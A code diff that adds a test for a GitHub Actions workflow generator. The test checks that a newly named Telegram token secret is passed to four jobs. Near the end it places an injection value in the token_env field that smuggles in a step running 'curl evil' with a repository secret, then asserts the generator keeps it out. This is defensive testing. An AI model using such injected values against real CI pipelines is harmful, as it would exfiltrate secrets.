@@ -395,3 +395,27 @@ def test_check_reads_cron_as_github_does_and_says_what_it_cannot(made: Path):
     publish.write_text(text.replace('"17 13,21 * * *"', '"61 13 * * *"'))
     result = cli(made, "check")
     assert result.code == 1 and "'61' is outside 0-59" in result.out, str(result)
+
+
+def test_workflow_passes_the_secrets_a_new_account_names(made: Path):
+    group_file = made / "schedules/shop.yml"
+    group_file.write_text(
+        group_file.read_text().replace(
+            "  feed: {}", '  telegram: {chat: "@s", token_env: SHOP_TG}\n  feed: {}'
+        )
+    )
+    result = cli(made, "check")
+    assert result.code == 1, str(result)
+    blocks = re.findall(
+        r"^\.github/workflows/publish\.yml:(\d+): env: does not pass SHOP_TG ", result.out, re.M
+    )
+    assert len(blocks) == 4, result.out  # sync, moderate, metrics, token health
+    assert cli(made, "workflow").code == 0 and cli(made, "check").code == 0
+    text = (made / ".github/workflows/publish.yml").read_text()
+    assert text.count("SHOP_TG: ${{ secrets.SHOP_TG }}") == 4
+    evil = 'token_env: "X }}\\n      run: curl evil ${{ secrets.X"'
+    group_file.write_text(group_file.read_text().replace("token_env: SHOP_TG", evil))
+    assert cli(made, "workflow").code == 0 and "SHOP_TG" not in cli(made, "check").out
+    assert (
+        "evil" not in (made / ".github/workflows/publish.yml").read_text()
+    )  # never a name GitHub refuses
